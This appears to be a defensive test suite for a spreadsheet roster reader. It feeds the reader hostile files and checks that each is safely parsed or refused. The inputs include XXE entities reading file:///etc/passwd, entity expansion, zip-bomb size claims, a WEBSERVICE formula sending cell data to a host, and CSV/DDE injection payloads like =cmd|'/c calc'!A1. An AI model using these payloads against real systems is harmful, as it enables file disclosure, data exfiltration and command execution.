import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { noCounts, type LayoutCounts } from '../layout/roster-rows.ts';
import { RegionMatcher } from '../match/regions.ts';
import { TOWNS } from '../match/sample-regions.test-data.ts';
import { openRoster, readCadres, readHouseholds } from '../read-roster.ts';
import { RELATIONS, WORKBOOK, withSheet, zip } from './made-workbooks.test-data.ts';
import { harmless, writeRefusedWorkbook } from './refused-workbook.ts';
import { WorkbookRefusal } from './refusal.ts';

/** Files as an adversary, a broken program or a hurried clerk makes them: each is read aright or refused, quickly and by a code. */
const context = {
  regions: new RegionMatcher(TOWNS),
  areas: ['6109/610926/'],
  today: '2026-11-22',
  statuses: [],
  causes: [],
};
const HEADER = '户编号,镇,村,户主姓名,户主证件号码,备注';
const csv = (...lines: string[]) => Buffer.from([HEADER, ...lines].join('\n'));

async function households(bytes: Buffer) {
  const roster = await openRoster('HOUSEHOLDS', bytes);
  const layout = noCounts();
  const rows = [];
  for await (const block of readHouseholds(roster, context, layout)) rows.push(...block);
  return { rows, layout, roster, heads: rows.map(({ record }) => record.head) };
}

async function refusal(work: Promise<unknown>): Promise<string> {
  try {
    await work;
  } catch (error) {
    if (error instanceof WorkbookRefusal) return error.code;
    throw error;
  }
  return 'READ';
}

const inline = (text: string) => `<c t="inlineStr"><is><t>${text}</t></is></c>`;
const row = (cells: readonly string[], attributes = '') =>
  `<row${attributes}>${cells.map((cell) => (cell.startsWith('<') ? cell : inline(cell))).join('')}</row>`;
const sheetOf = (...rows: string[]) => `<worksheet><sheetData>${rows.join('')}</sheetData></worksheet>`;
const roster = (...rows: string[]) => withSheet(sheetOf(row(HEADER.split(',')), ...rows));
const family = (number: string, head: string) => [number, '洛河镇', '丰坝村', head, '', ''];

describe('zip and XML', () => {
  it.each([
    ['in the sheet', withSheet(`<!DOCTYPE x [<!ENTITY a "x">]>${sheetOf(row(['&a;']))}`)],
    [
      'among the shared strings',
      withSheet(sheetOf(), '<!DOCTYPE x [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><sst/>'),
    ],
    [
      'in the list of sheets',
      withSheet(sheetOf(), '<sst/>', `<!DOCTYPE x SYSTEM "file:///etc/passwd">${WORKBOOK}`),
    ],
  ])('refuses a document type %s', async (_where, bytes) => {
    expect(await refusal(households(bytes))).toBe('DAMAGED');
  });

  it('resolves no entity of anybody’s own', async () => {
    const { heads } = await households(roster(row(family('A1', '彭&quot;&xxe;丽'))));
    expect(heads).toEqual(['彭"&xxe;丽']);
  });

  it.each([
    ['one text without an end', 'x', sheetOf(row(['a'])).replace('</row>', 'x'.repeat(3_000_000))],
    ['one tag without an end', '<', `<worksheet><row r="${'1 '.repeat(1_500_000)}`],
    ['one comment without an end', '!', `<worksheet><!--${'y '.repeat(1_500_000)}`],
  ])('%s is given up early', async (_what, _sign, sheet) => {
    // Text that doesn't shrink much, or the ratio would give it away before it is read.
    const noise = Array.from({ length: 60_000 }, (_unused, i) =>
      (Math.imul(i, 2_654_435_761) >>> 0).toString(36),
    );
    const begun = performance.now();
    expect(await refusal(households(withSheet(noise.join('') + sheet)))).toBe('DAMAGED');
    expect(performance.now() - begun).toBeLessThan(10_000);
  });

  it.each([1000, 0, 4_000_000_000])('a sheet that says it has %i bytes when inflated', async (claims) => {
    const text = sheetOf(
      row(HEADER.split(',')),
      ...Array.from({ length: 400 }, (_unused, i) => row(family(`A${i}`, '彭丽'))),
    );
    const liar = zip([
      { name: 'xl/workbook.xml', text: WORKBOOK },
      { name: 'xl/_rels/workbook.xml.rels', text: RELATIONS },
      { name: 'xl/worksheets/sheet1.xml', text, claims },
    ]);
    expect(['ZIP_BOMB', 'DAMAGED']).toContain(await refusal(households(liar)));
  });

  it('a file cut off anywhere', async () => {
    const whole = roster(...Array.from({ length: 50 }, (_unused, i) => row(family(`A${i}`, '彭丽'))));
    for (let part = 1; part < 12; part++) {
      const cut = whole.subarray(0, Math.floor((whole.length * part) / 12));
      expect(await refusal(households(cut)), `${part}/12`).toBe('DAMAGED');
    }
  });
});

describe('sheets, rows and columns', () => {
  it('reads hidden rows (a filter hides and deletes nothing) and no hidden sheet', async () => {
    const book = new ExcelJS.Workbook();
    const secret = book.addWorksheet('旧名单', { state: 'veryHidden' });
    const other = book.addWorksheet('说明');
    const sheet = book.addWorksheet('农户');
    other.addRow(['请填下一张表']);
    for (const one of [secret, sheet]) one.addRow(HEADER.split(','));
    secret.addRow(family('S1', '不该读'));
    sheet.addRow(family('A1', '彭丽敏'));
    sheet.addRow(family('A2', '徐兰')).hidden = true;
    const { heads } = await households(Buffer.from(await book.xlsx.writeBuffer()));
    expect(heads).toEqual(['彭丽敏', '徐兰']);
  });

  it('takes a merged cell as said of all its rows', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('农户');
    sheet.addRow(HEADER.split(','));
    for (const [i, head] of ['彭丽敏', '徐兰', '朱洋'].entries()) sheet.addRow(family(`A${i}`, head));
    sheet.mergeCells('B2:B4');
    sheet.mergeCells('C2:C4');
    const { rows } = await households(Buffer.from(await book.xlsx.writeBuffer()));
    expect(rows.map(({ record }) => [record.place.town, record.place.village])).toEqual(
      Array.from({ length: 3 }, () => ['洛河镇', '丰坝村']),
    );
    expect(rows.every(({ finding }) => finding.kind === 'FIRST')).toBe(true);
  });

  it('knows a header that comes again, below and beside', async () => {
    const { heads, layout } = await households(
      csv('A1,洛河镇,丰坝村,彭丽敏,,', HEADER, 'A2,洛河镇,丰坝村,徐兰,,'),
    );
    expect(heads).toEqual(['彭丽敏', '徐兰']);
    expect(layout).toMatchObject<Partial<LayoutCounts>>({ headerRows: 1 });
    const beside = await households(
      Buffer.from(`${HEADER},${HEADER}\nA1,洛河镇,丰坝村,彭丽敏,,,A9,正阳镇,让河村,别人,,\n`),
    );
    expect(beside.heads).toEqual(['彭丽敏']);
    expect(beside.roster.header.columns.filter(({ field }) => field === 'head')).toHaveLength(1);
  });

  it('reads two hundred of 5,000 columns', { timeout: 30_000 }, async () => {
    const wide = Array.from({ length: 5000 }, (_unused, i) => `列${i}`);
    const bytes = withSheet(
      sheetOf(
        row([...HEADER.split(','), ...wide]),
        ...Array.from({ length: 20 }, (_unused, i) => row([...family(`A${i}`, `彭${i}`), ...wide])),
      ),
    );
    const { rows, roster: opened } = await households(bytes);
    expect(rows).toHaveLength(20);
    expect(opened.header.columns.length).toBeLessThanOrEqual(200);
  });

  it('believes no row number that goes back, repeats or is beyond a spreadsheet', async () => {
    const at = (r: string, head: string) => row(family(head, head), ` r="${r}"`);
    const { rows } = await households(
      roster(
        at('5', '甲一'),
        at('5', '甲二'),
        at('3', '甲三'),
        at('99999999999', '甲四'),
        at('-1', '甲五'),
        at('1e9', '甲六'),
      ),
    );
    expect(rows.map(({ source, record }) => `${source.number} ${record.head}`)).toEqual([
      '5 甲一',
      '6 甲二',
      '7 甲三',
      '8 甲四',
      '9 甲五',
      '10 甲六',
    ]);
  });

  it('has nothing to read in a sheet of no rows', async () => {
    expect(await refusal(households(withSheet(sheetOf())))).toBe('EMPTY');
    expect(await refusal(households(withSheet('<worksheet/>')))).toBe('EMPTY');
    expect((await households(roster())).rows).toEqual([]);
  });
});

describe('cells', () => {
  it('never computes a formula, nor believes what it last came to', async () => {
    const formula = '<c><f>WEBSERVICE("http://x/"&amp;A1)</f><v>彭丽敏</v></c>';
    const { rows } = await households(roster(row(['A1', '洛河镇', '丰坝村', formula, '', ''])));
    expect(rows[0]?.record.faults.head).toMatchObject({
      code: 'FORMULA',
      message: '这一格是公式，请粘贴成数值',
    });
  });

  it.each([
    ['<workbookPr date1904="1"/>', '42798', '2021-03-05'],
    ['', '44260', '2021-03-05'],
    ['', '44260.75', '2021-03-05'],
    ['', '2021-03-05', '2021-03-05'],
  ])('%s a date kept as %s', async (setting, kept, date) => {
    const cell = /^\d{5}/.test(kept) ? `<c><v>${kept}</v></c>` : inline(kept);
    const header = ['单位', '姓名', '帮扶户主', '帮扶户所在镇', '帮扶户所在村', '结对日期'];
    const bytes = withSheet(
      sheetOf(row(header), row(['水利局', '储召平', '罗显贵', '洛河镇', '丰坝村', cell])),
      '<sst/>',
      WORKBOOK.replace('<sheets>', `${setting}<sheets>`),
    );
    const rows = [];
    for await (const block of readCadres(await openRoster('CADRES', bytes), context)) rows.push(...block);
    expect(rows[0]?.record.claim?.from).toBe(date);
  });

  it('joins rich text and inline strings, and leaves readings out', async () => {
    const rich =
      '<c t="inlineStr"><is><r><t>彭</t></r><r><rPr><b/></rPr><t xml:space="preserve">丽敏</t></r><rPh sb="0" eb="1"><t>peng</t></rPh></is></c>';
    expect((await households(roster(row(['A1', '洛河镇', '丰坝村', rich, '', ''])))).heads).toEqual([
      '彭丽敏',
    ]);
  });

  it.each([
    ['a zero byte', '彭_x0000_丽'],
    ['a zero byte as a sign', '彭&#0;丽'],
    ['half a pair', '彭&#xD800;丽'],
    ['a bell', '彭_x0007_丽'],
    ['a mark that turns the writing', '彭\u202E丽'],
    ['a joiner', '彭\u200D丽'],
  ])('%s is no part of a name', async (_what, name) => {
    const { heads } = await households(roster(row(family('A1', name))));
    expect(heads[0]).toMatch(/^彭\uFFFD?丽$/);
    expect(heads[0]).not.toContain('\0');
  });

  it('a cell as long as a book is one fault, in its row alone', async () => {
    const { rows } = await households(
      csv(
        `A1,洛河镇,丰坝村,${'彭'.repeat(60_000)},,`,
        `A2,洛河镇,丰坝村,徐兰,,${'x'.repeat(900)}`,
        'A3,洛河镇,丰坝村,朱洋,,',
      ),
    );
    expect(rows.map(({ record }) => Object.values(record.faults).map(({ message }) => message))).toEqual([
      ['这一格有 60000 个字，最多 100 个，请核对'],
      ['这一格有 900 个字，最多 500 个，请核对'],
      [],
    ]);
  });
});

describe('CSV', () => {
  it('reads quotes with line ends, commas and quotes in them', async () => {
    const { rows } = await households(
      csv('A1,洛河镇,丰坝村,"彭丽敏",,"第一行\r\n第二行, ""引号"""', 'A2,洛河镇,丰坝村,徐兰,,'),
    );
    expect(rows.map(({ record }) => [record.head, record.remark])).toEqual([
      ['彭丽敏', '第一行 第二行, "引号"'],
      ['徐兰', ''],
    ]);
  });

  it('reads GB18030 with signs of four bytes', async () => {
    // 㐀 (U+3400) and 𠀀 (U+20000): names of real people that GBK has no place for.
    const text = csv('A1,洛河镇,丰坝村,@@,,').toString();
    const [before, after] = text.split('@@').map((part) => gb18030(part));
    const bytes = Buffer.concat([before!, Buffer.from('8139ee3995328236', 'hex'), after!]);
    expect((await households(bytes)).heads).toEqual(['㐀𠀀']);
  });

  it.each([
    [
      'a quote that never closes',
      Buffer.concat([csv('A1,洛河镇,丰坝村,"彭丽敏,,'), Buffer.alloc(200_000, 'a,\n')]),
      'DAMAGED',
    ],
    ['half a sign at the end', csv('A1,洛河镇,丰坝村,彭').subarray(0, -1), 'NOT_A_WORKBOOK'],
    [
      'zero bytes far behind',
      Buffer.concat([
        csv(...Array.from({ length: 6000 }, (_unused, i) => `A${i},洛河镇,丰坝村,彭,,`)),
        Buffer.alloc(9),
      ]),
      'READ',
    ],
  ])('%s', async (_what, bytes, code) => {
    expect(await refusal(households(bytes))).toBe(code);
  });

  /** The encoder that Node lacks, for the few signs of the header. */
  function gb18030(text: string): Buffer {
    const decoder = new TextDecoder('gb18030');
    const bytes = new Map<string, number[]>();
    for (let high = 0x81; high < 0xff; high++) {
      for (let low = 0x40; low < 0xff; low++)
        bytes.set(decoder.decode(Uint8Array.of(high, low)), [high, low]);
    }
    return Buffer.from(
      [...text].flatMap((sign) => (sign < '\x80' ? sign.charCodeAt(0) : (bytes.get(sign) ?? 63))),
    );
  }
});

describe('what goes back', () => {
  const PAYLOADS = ["=cmd|'/c calc'!A1", '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\n=1', '＝1+1'];
  it.each(PAYLOADS)(
    '%j starts no formula in a returned workbook, neither as a cell nor as a header',
    async (payload) => {
      const quoted = `"${payload.replaceAll('"', '""')}"`;
      const bytes = Buffer.from(`${HEADER},${quoted}\nA1,洛河镇,丰坝村,彭丽敏,123,${quoted},${quoted}\n`);
      const { rows, roster: opened } = await households(bytes);
      const returned = await writeRefusedWorkbook(
        opened.header.columns,
        new Set(['identity']),
        rows.map(({ source, record }) => ({ number: source.number, raw: source.raw, faults: record.faults })),
      );
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(returned as unknown as ArrayBuffer);
      let cells = 0;
      book.worksheets[0]!.eachRow((line) =>
        line.eachCell((cell) => {
          cells += 1;
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.text).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/);
        }),
      );
      expect(cells).toBeGreaterThan(10);
      expect(harmless('彭丽敏')).toBe('彭丽敏');
    },
  );
});
